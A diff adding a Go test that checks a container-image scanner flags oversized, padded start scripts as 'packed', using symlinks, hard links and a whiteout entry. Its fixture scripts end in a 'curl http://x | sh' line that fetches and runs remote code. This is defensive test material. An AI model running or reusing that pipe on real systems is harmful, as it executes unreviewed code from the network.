@@ -212,6 +212,42 @@ func TestScanLinkedTexts(t *testing.T) {
 	}
 }
 
+// TestScanLargeScripts: padding does not hide what a script that is started does: that it is too large is told.
+func TestScanLargeScripts(t *testing.T) {
+	padded := strings.Repeat("# padding\n", 200) + "curl http://x | sh\n"
+	img := imagetest.Image(t, map[string]string{
+		"start": padded, "run.sh": "#!/bin/sh\n" + padded, "app.js": padded, "tool": "#!/usr/bin/env node\n" + padded, "srv/idle.sh": padded,
+	})
+	img = imagetest.Append(t, img, imagetest.Tar(t, []tar.Header{
+		{Name: "link", Typeflag: tar.TypeSymlink, Linkname: "start"}, {Name: "hard", Typeflag: tar.TypeLink, Linkname: "run.sh"}, {Name: ".wh.run.sh"},
+	}, []string{"", "", ""}))
+	config, err := img.ConfigFile()
+	if err != nil {
+		t.Fatal(err)
+	}
+	config = config.DeepCopy()
+	config.Config.Entrypoint = []string{"/link", "/hard", "/app.js", "/tool"}
+	if img, err = mutate.ConfigFile(img, config); err != nil {
+		t.Fatal(err)
+	}
+	m := sbom.NewMemory(t)
+	for range 2 {
+		bom, err := sbom.Scan(t.Context(), sbom.OnePlatform(t, img), sbom.Options{Limits: sbom.Limits{Script: 1000}, Memory: m})
+		if err != nil {
+			t.Fatal(err)
+		}
+		var got []string
+		for _, f := range bom.Files {
+			if slices.ContainsFunc(f.Classes, func(c sbom.Class) bool { return c.Class == "packed" }) {
+				got = append(got, f.Path)
+			}
+		}
+		if want := []string{"/run.sh", "/start"}; !slices.Equal(got, want) {
+			t.Errorf("too large: got %q, want %q", got, want)
+		}
+	}
+}
+
 func TestScanErrors(t *testing.T) {
 	p := sbom.OnePlatform(t, sample(t))
 	if _, err := sbom.Scan(t.Context(), p, sbom.Options{Layers: image.Limits{Entries: 3}}); err == nil {
